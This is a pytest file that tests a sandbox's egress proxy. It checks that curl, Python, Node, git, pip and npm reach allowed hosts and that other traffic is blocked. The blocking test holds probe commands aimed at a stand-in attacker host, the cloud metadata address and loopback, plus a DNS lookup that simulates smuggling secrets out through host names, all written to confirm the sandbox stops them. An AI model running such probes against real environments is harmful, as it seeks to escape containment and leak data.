"""What sandboxes reach, with the programs that people use: by the proxy, and without knowing of it."""
import base64
import hashlib
import io
import json
import pathlib
import subprocess
import tarfile
import zipfile

NODE = "fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t)).catch(e => console.log('failed', e.cause?.code))"
PYTHON = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode())"


def test_curl_python_and_node_reach_what_is_allowed(session, hosts):
    inside = session("api.test", "plain.test")
    commands = {
        "curl": "curl -sS https://api.test/echo?curl",
        "curl without the proxy": "curl -sS --noproxy '*' https://api.test/echo?direct",
        "plain": "curl -sS http://plain.test/echo?plain",
        "plain without the proxy": "curl -sS --noproxy '*' http://plain.test/echo?plaindirect",
        "python": "python3 -c '%s' https://api.test/echo?python" % PYTHON,
        "python without the proxy": "env -u https_proxy -u HTTPS_PROXY python3 -c '%s' https://api.test/echo?pythondirect" % PYTHON,
        # It knows no proxy variables.
        "node": "node -e %s https://api.test/echo?node" % json.dumps(NODE),
    }
    for name, command in commands.items():
        printed = inside.run(command)
        assert "/echo?" in printed and "host: " in printed.lower(), "%s: %s" % (name, printed)
    assert "user-agent" in hosts["api.test"].last("/echo")["headers"]


def test_what_is_not_allowed_says_so_and_gets_nothing(session, hosts):
    inside = session("api.test")
    before = len(hosts["evil.test"].got)
    refused = inside.run("curl -sS --noproxy '*' https://evil.test/x; curl -sS http://evil.test/x")
    for line in refused.strip().splitlines():
        error = json.loads(line)["error"]
        assert (error["code"], error["host"]) == ("host_not_allowed", "evil.test") and "allowed_hosts" in error["remedy"], line
    assert "response 403" in inside.run("curl -sS https://evil.test/x")
    for address in ("https://127.0.0.1:%s/" % hosts["api.test"].server_address[1], "https://169.254.169.254/", "https://1.1.1.1/", "https://[::1]/"):
        printed = inside.run("curl -gsS -m 10 %s; curl -gsS -m 10 --noproxy '*' %s" % (address, address))
        assert "host: " not in printed, (address, printed)
    assert len(hosts["evil.test"].got) == before
    # Names carry nothing out: every one has an address, and nobody was asked for it.
    assert inside.run("getent hosts some.secret.evil.test").startswith("198.1")


def test_a_policy_that_changes_holds_at_once(session):
    inside = session("api.test")
    assert "/echo" in inside.run("curl -sS https://api.test/echo")
    inside.allow("other.test")
    assert "403" in inside.run("curl -sS https://api.test/echo") and "/echo" in inside.run("curl -sS https://other.test/echo")


def test_git_clones_over_https(session, hosts, tmp_path):
    place = tmp_path / "work"
    files = hosts["git.test"].RequestHandlerClass.keywords["directory"]
    git = lambda *words: subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@test", *words], check=True, capture_output=True)
    git("init", "-q", place)
    (place / "file").write_text("cloned\n")
    git("-C", place, "add", "file")
    git("-C", place, "commit", "-qm", "one")
    git("clone", "-q", "--bare", place, "%s/repository.git" % files)
    git("-C", "%s/repository.git" % files, "update-server-info")
    inside = session("git.test")
    assert inside.run("git clone -q https://git.test/repository.git && cat repository/file") == "cloned\n"


def test_pip_installs_from_an_index(session, hosts):
    files = hosts["pypi.test"].RequestHandlerClass.keywords["directory"]
    info = "told-1.0.dist-info"
    wheel = "told-1.0-py3-none-any.whl"
    metadata = {"METADATA": "Metadata-Version: 2.1\nName: told\nVersion: 1.0\n", "WHEEL": "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
                "RECORD": "told.py,,\n%s/METADATA,,\n%s/WHEEL,,\n%s/RECORD,,\n" % (info, info, info)}
    place = pathlib.Path(files) / "simple" / "told"
    place.mkdir(parents=True)
    with zipfile.ZipFile(place / wheel, "w") as archive:
        archive.writestr("told.py", "WORD = 'installed'\n")
        for name, text in metadata.items():
            archive.writestr("%s/%s" % (info, name), text)
    (place / "index.html").write_text('<a href="%s">%s</a>' % (wheel, wheel))
    inside = session("pypi.test")
    printed = inside.run("python3 -m venv v 2>&1 && v/bin/pip install -q --disable-pip-version-check --index-url https://pypi.test/simple told 2>&1; v/bin/python -c 'import told; print(told.WORD)'")
    assert printed.strip().endswith("installed"), printed


def test_npm_installs_from_a_registry(session, hosts):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in (("package/package.json", '{"name": "told", "version": "1.0.0", "main": "i.js"}'), ("package/i.js", "module.exports = 'installed'")):
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    tarball = packed.getvalue()
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
    described = {"name": "told", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
        "name": "told", "version": "1.0.0", "main": "i.js", "dist": {"tarball": "https://npm.test/told-1.0.0.tgz", "integrity": integrity}}}}
    host = hosts["npm.test"]
    host.answers["/told"] = lambda handler: handler.reply(json.dumps(described), content_type="application/json")
    host.answers["/told-1.0.0.tgz"] = lambda handler: handler.reply(tarball, content_type="application/octet-stream")
    inside = session("npm.test")
    printed = inside.run("npm install --silent --no-audit --no-fund --no-update-notifier --registry https://npm.test/ told 2>&1; node -e 'console.log(require(\"told\"))'")
    assert printed.strip().endswith("installed"), printed
